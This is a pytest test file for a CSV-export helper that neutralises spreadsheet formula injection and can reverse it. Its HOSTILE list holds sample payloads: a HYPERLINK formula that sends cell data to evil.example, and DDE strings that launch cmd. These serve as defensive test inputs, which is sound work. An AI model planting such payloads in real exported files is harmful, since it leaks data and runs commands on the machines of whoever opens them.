"""The one helper for human-facing CSV files: OWASP formula-injection neutralisation, reversible."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from crmbridge.csvout import DANGEROUS, Writer, neutralise, neutralise_frame, read_frame, restore, write_csv, write_frame

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+8613812345678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''", "'", "'plain",
           '普通,"文字"', "a,=1+1", "x\n=1+1", "", "公司"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_then_restore_is_the_identity(value):
    safe = neutralise(value)
    assert restore(safe) == value
    if value and value[0] in DANGEROUS:
        assert safe == "'" + value


def test_non_text_cells_are_left_alone():
    assert neutralise(None) is None and neutralise(-5) == -5 and neutralise(1.5) == 1.5


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    return rows


def assert_inert(path):
    """No cell of ``path`` starts with a character a spreadsheet runs as a formula, and every cell is quoted."""
    text = open(path, encoding="utf-8-sig", newline="").read()
    for row in _cells(path):
        for cell in row:
            assert not cell or cell[0] not in DANGEROUS, (path, cell)
    first = text.splitlines()[0]
    assert first.startswith('"'), first


def test_write_frame_is_inert_and_read_frame_gives_the_originals(tmp_path):
    df = pd.DataFrame({"value": HOSTILE, "n": range(len(HOSTILE))})
    p = write_frame(df, tmp_path / "sub" / "q.csv")
    assert p.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel detects UTF-8
    assert_inert(p)
    back = read_frame(p)
    assert back["value"].tolist() == HOSTILE and back["n"].tolist() == [str(i) for i in range(len(HOSTILE))]


def test_streaming_writer_is_inert(tmp_path):
    w = Writer(tmp_path / "r.csv", ["_line", "_reason", "_raw"])
    for i, v in enumerate(HOSTILE):
        w.writerow([i, "too_many_fields", v])
    w.writerow([99, "x", None])
    w.close()
    assert_inert(tmp_path / "r.csv")
    assert read_frame(tmp_path / "r.csv")["_raw"].tolist() == HOSTILE + [""]


# ------------------------------------------------------------------ the column-wise path against the per-cell one


def _old_neutralise_frame(df):
    """The previous ``neutralise_frame``: ``neutralise`` cell by cell."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            out[col] = s.map(neutralise)
    return out


def _adversarial_frames():
    import numpy as np

    rng = np.random.default_rng(4)
    cells = HOSTILE + [None, float("nan"), " ", "\u3000=1", "＝1", "-", "+", "@", "'", "'-", "'\t", "中=1", "=", "a\"b",
                       "x\r\ny", "١٢", "\U0001f600", "é"]
    text = pd.Series(rng.choice(np.array(cells, dtype=object), size=500), dtype=object)
    yield pd.DataFrame({"a": text, "b": text.sample(frac=1, random_state=1).values, "_reason": "required_missing: x"})
    yield pd.DataFrame({"s": text.astype("str"), "o": text})  # pandas' own text dtype next to object
    yield pd.DataFrame({"mixed": pd.Series(["=1", 5, 1.5, None, "-x", True], dtype=object), "n": [1, 2, 3, 4, 5, 6],
                        "f": [1.5, np.nan, -2.0, 3.0, 0.1, 1e20], "t": ["+1", "a", None, "b", "@c", ""]})
    yield pd.DataFrame({"a": pd.Series([], dtype=object), "b": pd.Series([], dtype=object)})
    yield pd.DataFrame({"a": pd.Series([None, None], dtype=object), "b": ["=x", "y"]})
    yield pd.DataFrame({"a": pd.Series([None, float("nan"), None], dtype=object), "b": ["=x", "y", "'-"]})
    yield pd.DataFrame({"a": ["=1", "b"], "b": ["x", "y"]}, index=[7, 7])  # repeated labels


def test_column_wise_neutralisation_equals_the_per_cell_one():
    for df in _adversarial_frames():
        new, old = neutralise_frame(df), _old_neutralise_frame(df)
        pd.testing.assert_frame_equal(new, old)
        for c in range(df.shape[1]):  # value and type of every cell
            assert [(type(x), x) for x in new.iloc[:, c].tolist() if x == x] == \
                   [(type(x), x) for x in old.iloc[:, c].tolist() if x == x]


@pytest.mark.parametrize("chunk", [10_000, 7])
def test_write_csv_writes_the_bytes_pandas_wrote(tmp_path, monkeypatch, chunk):
    import io

    import crmbridge.csvout

    monkeypatch.setattr(crmbridge.csvout, "CSV_CHUNK_ROWS", chunk)
    for i, df in enumerate(_adversarial_frames()):
        for header in (True, False):
            fh = io.StringIO(newline="")
            write_csv(df, fh, header=header)
            ref = io.StringIO(newline="")
            _old_neutralise_frame(df).to_csv(ref, index=False, header=header, quoting=csv.QUOTE_ALL)
            assert fh.getvalue() == ref.getvalue(), i
            raw = io.BytesIO()  # a binary file: the same text, as UTF-8
            write_csv(df, raw, header=header)
            assert raw.getvalue() == ref.getvalue().encode("utf-8"), i
        path = write_frame(df, tmp_path / f"f{i}.csv")
        ref_path = tmp_path / f"ref{i}.csv"
        _old_neutralise_frame(df).to_csv(ref_path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
        assert path.read_bytes() == ref_path.read_bytes(), i
